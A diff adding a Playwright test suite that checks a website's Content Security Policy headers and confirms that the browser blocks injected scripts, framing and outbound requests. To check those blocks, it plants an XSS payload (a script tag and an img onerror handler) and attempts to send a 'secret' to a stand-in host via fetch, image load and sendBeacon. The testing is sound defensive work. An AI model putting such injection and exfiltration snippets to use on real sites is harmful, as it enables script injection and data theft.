@@ -1,0 +1,118 @@
+import type { Page } from "@playwright/test";
+import { listen } from "../scripts/server/listen.mjs";
+import { expect, test } from "./fixtures.ts";
+import { openAndWait } from "./open.ts";
+import { everyPage } from "./routes.ts";
+
+// That no page breaks the policy itself, whatever a visitor does there, is what every journey looks at (fixtures.ts).
+
+test("every page comes with the policy, in its headers and in itself", async ({ page }) => {
+  for (const { path } of everyPage) {
+    const headers = (await page.goto(path))?.headers() ?? {};
+    const policy = headers["content-security-policy"] ?? "";
+    const inPage = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content")) ?? "";
+    for (const text of [policy, inPage]) {
+      expect(text).toMatch(/^default-src 'none'; script-src 'self' 'sha256-[^']+'; style-src 'self' 'sha256-/);
+      for (const part of ["connect-src 'none'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]) {
+        expect(text).toContain(part);
+      }
+      expect(text).toContain("require-trusted-types-for 'script'; trusted-types 'none'");
+      expect(text).not.toMatch(/unsafe|\*|data:|blob:/);
+    }
+    expect(policy).toContain("frame-ancestors 'none'");
+    expect(headers).toMatchObject({
+      "cross-origin-opener-policy": "same-origin",
+      "permissions-policy": expect.stringContaining("geolocation=()"),
+      "referrer-policy": "no-referrer",
+      "x-content-type-options": "nosniff",
+    });
+  }
+});
+
+test.describe("a page that somebody has tampered with", () => {
+  test.use({ allowedProblems: [/Content.Security.Policy|Trusted(?:HTML|Script)|no-such\.png/] });
+
+  test("runs neither a planted script nor a planted handler", async ({ page }) => {
+    await page.route("/", async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace(
+        "</body>",
+        '<script>window.planted = "script"</script><img src="/no-such.png" onerror="window.planted = \'handler\'" /></body>',
+      );
+      await route.fulfill({ response, body });
+    });
+    const refused = await refusals(page);
+    await openAndWait(page, "/");
+    await expect.poll(refused).toEqual(expect.arrayContaining(["script-src-elem", "script-src-attr"]));
+    expect(await page.evaluate(() => Reflect.get(window, "planted"))).toBeUndefined();
+  });
+
+  test("makes neither text into elements nor text into a script", async ({ page }) => {
+    await openAndWait(page, "/");
+    const errors = await page.evaluate(async () => {
+      // What DevTools runs itself may make text into code: the page gets its own turn.
+      await new Promise((resolve) => setTimeout(resolve));
+      const attempts = [
+        () => document.body.insertAdjacentHTML("beforeend", "<b>planted</b>"),
+        () => Object.assign(document.createElement("script"), { text: "planted" }),
+        () => new Function("return 1")(),
+      ];
+      return attempts.map((attempt) => {
+        try {
+          attempt();
+          return "done";
+        } catch (error) {
+          return error instanceof Error ? error.name : "refused";
+        }
+      });
+    });
+    expect(errors).toEqual(["TypeError", "TypeError", "EvalError"]);
+  });
+
+  test("sends nothing, neither to another host nor to its own", async ({ page, baseURL }) => {
+    const left: string[] = [];
+    await page.route(/elsewhere|robots/, (route) => {
+      left.push(route.request().url());
+      return route.abort();
+    });
+    const refused = await refusals(page);
+    await openAndWait(page, "/");
+    const answers = await page.evaluate(async (own) => {
+      const ask = (url: string) => fetch(url).then(String, () => "refused");
+      const elsewhere = "https://elsewhere.example/?secret";
+      new Image().src = elsewhere;
+      navigator.sendBeacon(elsewhere, "secret");
+      return Promise.all([ask(elsewhere), ask(own)]);
+    }, new URL("/robots.txt", baseURL).href);
+    expect(answers).toEqual(["refused", "refused"]);
+    await expect.poll(refused).toEqual(expect.arrayContaining(["connect-src", "img-src"]));
+    expect(left).toEqual([]);
+  });
+});
+
+test.describe("another site", () => {
+  test.use({ allowedProblems: [/frame-ancestors 'none'/] });
+
+  test("cannot show a page in a frame", async ({ page, baseURL }) => {
+    const frame = `<title>Elsewhere</title><iframe src="${baseURL}/"></iframe>`;
+    const elsewhere = await listen((_, response) => void response.setHeader("Content-Type", "text/html").end(frame), 0);
+    await page.route(`${elsewhere.address}/**`, (route) => route.continue());
+    const refused = page.waitForEvent("requestfailed", (request) => request.url() === `${baseURL}/`);
+    await page.goto(elsewhere.address);
+    expect((await refused).failure()?.errorText).toBe("net::ERR_BLOCKED_BY_RESPONSE");
+    await expect(page.frameLocator("iframe").getByRole("heading", { level: 1 })).toHaveCount(0);
+    elsewhere.close();
+  });
+});
+
+/** Collects what the browser refuses: the directives by their names. */
+async function refusals(page: Page): Promise<() => string[]> {
+  const directives: string[] = [];
+  await page.exposeFunction("refused", (directive: string) => void directives.push(directive));
+  await page.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+      Reflect.get(window, "refused")(effectiveDirective);
+    });
+  });
+  return () => directives;
+}
